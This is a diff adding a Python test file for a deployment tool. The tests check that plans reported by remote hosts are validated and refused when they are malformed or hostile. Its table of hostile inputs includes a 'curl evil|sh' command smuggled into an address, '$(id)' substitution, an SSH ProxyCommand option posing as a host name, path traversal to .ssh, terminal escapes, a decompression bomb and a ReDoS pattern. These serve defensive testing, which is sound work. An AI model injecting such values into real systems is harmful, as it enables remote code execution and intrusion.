@@ -1,0 +1,319 @@
+"""Plans that hosts show: what is wrong with one is refused, what is right is used with this
+machine's own ways."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import zlib
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from tfdeploy.agent import frames
+from tfdeploy.errors import HostFailed, TfdeployError
+from tfdeploy.model.answers.runs import RUN_PLAN
+from tfdeploy.model.answers.verb import Flow
+from tfdeploy.model.hostplan import read_shown
+from tfdeploy.model.inventory import Host
+from tfdeploy.operations.run_lookup.find_run import hosts_of
+from tfdeploy.operations.run_lookup.host_plans import PlanRequest, fetch_plan, plan_to_stop
+
+RUN, JOB = "digits-1", "digits"
+INVENTORY = (
+    Host(name="n1", address="10.0.0.1", user="ml"),
+    Host(name="n2", address="10.0.0.2", user="ml"),
+)
+OLDER = {
+    "name": "n1",
+    "address": "6.6.6.6",
+    "known_hosts": "/tmp/theirs",
+    "identity_file": "/root/.ssh/id",
+    "jump": "evil",
+}
+
+
+def told(**changes: Any) -> dict[str, Any]:
+    """What an older tfdeploy left on a host, with what is wrong with it."""
+    task = {
+        "task": "worker:0",
+        "role": "worker",
+        "index": 0,
+        "host": "n2",
+        "address": "10.0.0.2:2222",
+        "port": 2222,
+    }
+    task |= {
+        "gpus": [0],
+        "argv": ["python", "a\nb"],
+        "env": {"A": "1"},
+        "deciding": True,
+        "why": "why",
+    }
+    hosts = [
+        {
+            "host": name,
+            "address": f"10.0.0.{number}",
+            "mesh_port": 2223,
+            "workdir": "/w",
+            "python": "/usr/bin/python3",
+        }
+        for number, name in enumerate(("n1", "n2"), 1)
+    ]
+    hosts[0]["ssh"] = OLDER
+    plan = {
+        "run": RUN,
+        "job": JOB,
+        "mode": "async",
+        "created": 1.0,
+        "operator": "ml@desk",
+        "release": "abc",
+        "version": 1,
+    }
+    plan |= {
+        "command": ["python"],
+        "cluster": {"worker": ["10.0.0.2:2222"]},
+        "hosts": hosts,
+        "tasks": [task],
+    }
+    plan |= {"deciding": ["worker:0"], "flags_appended": ["ps_hosts"], "keep": ["ckpt"]}
+    return json.loads(json.dumps({**plan, **changes}))
+
+
+def host(**changes: Any) -> dict[str, Any]:
+    return told(hosts=[{**told()["hosts"][0], **changes}, told()["hosts"][1]])
+
+
+def task(**changes: Any) -> dict[str, Any]:
+    return told(tasks=[{**told()["tasks"][0], **changes}])
+
+
+class Answer(list[Any]):
+    """What an honest agent says of this plan.json; bytes are what a liar sends."""
+
+    def __init__(self, plan: Any, unless: str | None) -> None:
+        text = json.dumps(plan).encode() if not isinstance(plan, bytes) else b""
+        known = bool(text) and hashlib.sha256(text).hexdigest() == unless
+        super().__init__([] if known else [({}, frames.pack(text) if text else plan)])
+
+    def close(self) -> None:
+        return None
+
+
+class Hosts:
+    """A fleet of hosts that show these plans, or raise these errors."""
+
+    answer: type[Answer] = Answer
+
+    def __init__(self, **plans: Any) -> None:
+        self.plans = plans
+
+    def each(self, hosts: tuple[Host, ...], action: Callable[[Any], Any]) -> dict[str, Any]:
+        return {each.name: self._one(each, action) for each in hosts}
+
+    def _one(self, each: Host, action: Callable[[Any], Any]) -> Any:
+        plans, answer = self.plans, self.answer
+
+        class Session:
+            host = each
+
+            def agent(self) -> Any:
+                return self
+
+            def stream(self, verb: Flow[Any, Any], args: dict[str, Any], silence_s: float) -> Any:
+                assert verb is RUN_PLAN and {**args, "unless": 0} == {
+                    "run": RUN,
+                    "job": JOB,
+                    "unless": 0,
+                }
+                return answer(plans[each.name], args.get("unless"))
+
+        try:
+            return action(Session())
+        except TfdeployError as error:
+            return error
+
+
+def sought(*holders: str, **metrics: str) -> PlanRequest:
+    return PlanRequest(
+        run=RUN,
+        job=JOB,
+        holders=tuple(each for each in INVENTORY if each.name in holders),
+        hosts=INVENTORY,
+        metrics=metrics,
+    )
+
+
+LIES: dict[str, Any] = {
+    "no object": ["plan"],
+    "nothing at all": b"",
+    "garbage": b"\x1b]0;owned\x07",
+    "half of it": frames.pack(json.dumps(told()).encode())[:-9],
+    "a gigabyte": zlib.compress(bytes(1 << 30), 9),
+    "nested too deep": frames.pack(b'{"hosts":' + b"[" * 100_000),
+    "half a number": frames.pack(b'{"created": NaN}'),
+    "null": None,
+    "another run": told(run="digits-2"),
+    "another job": told(job="other"),
+    "escapes in the run": told(run="\x1b]0;owned\x07"),
+    "a run that leads out": told(run="../../../.ssh"),
+    "an unknown mode": told(mode="\x1b[31mred"),
+    "a release that leads out": told(release="../../x"),
+    "no hosts": told(hosts=[]),
+    "a host that leads out": host(host="../../../../.ssh"),
+    "a host with a trailing blank": host(host="n1 "),
+    "a host with a NUL": host(host="n\0"),
+    "a host that is a folder": host(host=".."),
+    "an absolute host": host(host="/etc"),
+    "an option for a host": host(host="-oProxyCommand=x"),
+    "a host of 300 letters": host(host="n" * 300),
+    "a host twice": host(host="n2"),
+    "an address for a shell": host(address="10.0.0.1;curl evil|sh #"),
+    "an empty address": host(address=""),
+    "port 0": host(mesh_port=0),
+    "port 65536": host(mesh_port=65536),
+    "a port that is true": host(mesh_port="22"),
+    "a task that leads out": task(task="../x:0", role="../x"),
+    "a task that is not its role and index": task(task="worker:1"),
+    "a negative index": task(task="worker:-1", index=-1),
+    "a task of no host": task(host="n9"),
+    "a task on n2 with a blank": task(host="n2 "),
+    "an endpoint without a port": task(address="10.0.0.2"),
+    "an endpoint for a shell": task(address="$(id):2222"),
+    "a task's port": task(port=-5),
+    "a GPU": task(gpus=[-1]),
+    "a rule nobody knows": task(on_death="never"),
+    "the same task twice": told(tasks=told()["tasks"] * 2),
+    "a deciding task that is not there": told(deciding=["chief:0"]),
+    "keep that leads out": told(keep=["../../.ssh"]),
+    "absolute keep": told(keep=["/etc"]),
+    "data that leads out": told(data={"d": "/etc"}),
+    "a data set's name": told(data={"../d": "data/d"}),
+    "a link that leads out": told(links={"../x": "d"}),
+    "a role in the cluster": told(cluster={"../worker": ["10.0.0.2:2222"]}),
+    "a cluster's address": told(cluster={"worker": ["10.0.0.2:2222\n"]}),
+    "a secret's name": told(secrets=["A B"]),
+    "no time": told(created=float("nan")),
+    "a time that no calendar has": told(created=1e12),
+    "an endless grace": told(stop_grace_s=float("inf")),
+    "a negative grace": told(stop_grace_s=-1.0),
+    "half a character": told(keep=["\ud800"]),
+    "a log without end": told(logs_max_bytes=1 << 80),
+    "keep from what is no host": told(keep_from="../n7"),
+}
+
+
+@pytest.mark.fault("57 a plan that a host made up")
+@pytest.mark.parametrize("lie", LIES, ids=str)
+def test_a_plan_that_makes_no_sense_is_that_hosts_failure_and_the_other_is_served(lie: str) -> None:
+    plan, refused = fetch_plan(Hosts(n1=LIES[lie], n2=told()), sought("n1", "n2"))  # type: ignore[arg-type]
+    assert [each.host for each in plan.hosts] == ["n1", "n2"] and list(refused) == ["n1"]
+    said = refused["n1"]
+    assert (
+        said.exit_code == 1
+        and "is refused" in said.what
+        and said.what.isprintable()
+        and len(said.what) < 500
+    )
+    with pytest.raises(HostFailed, match="is refused"):
+        fetch_plan(Hosts(n1=LIES[lie]), sought("n1"))  # type: ignore[arg-type]
+
+
+def test_hosts_are_reached_as_the_inventory_says_and_metrics_are_our_own() -> None:
+    lies = told(
+        metrics={"step": "(a+)+$", "\x1b": "x"}, operator="\x1b[2Jme", notes=["\x1b]52;c;x\x07"]
+    )
+    plan, refused = fetch_plan(Hosts(n1=lies, n2=lies), sought("n1", "n2", step=r"at (\d+)"))  # type: ignore[arg-type]
+    assert hosts_of(plan) == INVENTORY and not refused
+    assert plan.metrics == {"step": r"at (\d+)"}
+    assert (plan.operator, plan.notes) == ("?[2Jme", ("?]52;c;x?",))
+    assert {(each.python, each.workdir) for each in plan.hosts} == {("", "")}
+
+
+def test_names_that_are_not_utf8_stand_in_plans() -> None:
+    home = "/home/ml\udcff"
+    shown = host(workdir=f"{home}/tfdeploy", python=f"{home}/bin/python")
+    shown.update(
+        command=["python", "\udcff"], notes=[f"its workdir is {home}"], keep=["ckpt\udcff"]
+    )
+    plan, refused = fetch_plan(Hosts(n1=shown), sought("n1"))  # type: ignore[arg-type]
+    assert (
+        not refused and plan.notes == ("its workdir is /home/ml?",) and plan.keep == ("ckpt\udcff",)
+    )
+
+
+def test_a_host_that_the_inventory_lacks_has_no_address() -> None:
+    plan, _ = fetch_plan(Hosts(n1=host(host="n7")), sought("n1"))  # type: ignore[arg-type]
+    assert [(each.name, each.address) for each in hosts_of(plan)] == [
+        ("n7", ""),
+        ("n2", "10.0.0.2"),
+    ]
+
+
+@pytest.mark.fault("62 two hosts hold different plans: both named")
+def test_two_plans_of_one_run_are_no_plan_and_both_hosts_are_stopped() -> None:
+    fleet: Any = Hosts(n1=told(stop_grace_s=0.0), n2=host(host="n7"))
+    with pytest.raises(
+        HostFailed, match=r"2 different plans of digits-1: plan 1 is on n1; plan 2 is on n2"
+    ):
+        fetch_plan(fleet, sought("n1", "n2"))
+    plan = plan_to_stop(fleet, sought("n1", "n2"))
+    assert {each.name: each.address for each in hosts_of(plan)} == {
+        "n1": "10.0.0.1",
+        "n2": "10.0.0.2",
+        "n7": "",
+    }
+    assert (plan.run, plan.job, plan.stop_grace_s) == (RUN, JOB, 20.0)
+
+
+@pytest.mark.fault("62 one host alone shows a plan that leaves a silent host out")
+def test_a_silent_host_is_stopped_too_unless_two_hosts_show_one_plan() -> None:
+    silent = (Host(name="n5", address="10.0.0.5"),)
+    one = plan_to_stop(Hosts(n1=told()), sought("n1"), silent)  # type: ignore[arg-type]
+    assert "n5" in [each.host for each in one.hosts]
+    two = plan_to_stop(Hosts(n1=told(), n2=told()), sought("n1", "n2"), silent)  # type: ignore[arg-type]
+    assert "n5" not in [each.host for each in two.hosts]
+
+
+def test_what_holds_a_run_is_stopped_whatever_plan_it_shows() -> None:
+    plan = plan_to_stop(Hosts(n1=["garbage"], n2=None), sought("n1", "n2"))  # type: ignore[arg-type]
+    assert hosts_of(plan) == INVENTORY and not plan.tasks
+
+
+def test_the_longest_job_has_runs_that_are_found() -> None:
+    job = "j" * 63
+    run = f"{job}-20261121-101500-3fa1"
+    assert read_shown(json.dumps(told(run=run, job=job)).encode(), run, job, {}).run == run
+
+
+def test_a_plan_that_all_hold_is_sent_once_and_without_the_words_of_its_tasks() -> None:
+    sent: list[bool] = []
+
+    class Counting(Answer):
+        def __init__(self, plan: Any, unless: str | None) -> None:
+            super().__init__(plan, unless)
+            sent.append(bool(self))
+
+    fleet: Any = Hosts(n1=told(), n2=told())
+    fleet.answer = Counting
+    plan, refused = fetch_plan(fleet, sought("n1", "n2"))
+    assert (plan.tasks[0].argv, plan.tasks[0].env, plan.command) == ((), {}, ())
+    assert sent == [True, False] and not refused
+    sent.clear()
+    # the first one is away, or has none
+    fleet.plans = {"n1": b"x", "n2": told(), "n3": told(), "n4": told()}
+    many = tuple(Host(name=name, address="10.0.0.1") for name in fleet.plans)
+    assert list(fetch_plan(fleet, PlanRequest(run=RUN, job=JOB, holders=many, hosts=many))[1]) == [
+        "n1"
+    ] and sent == [
+        True,
+        True,
+        False,
+        False,
+    ]
+
+
+def test_who_says_the_same_without_being_asked_has_no_plan() -> None:
+    with pytest.raises(HostFailed, match="is refused"):
+        fetch_plan(Hosts(n1=b""), sought("n1"))  # type: ignore[arg-type]
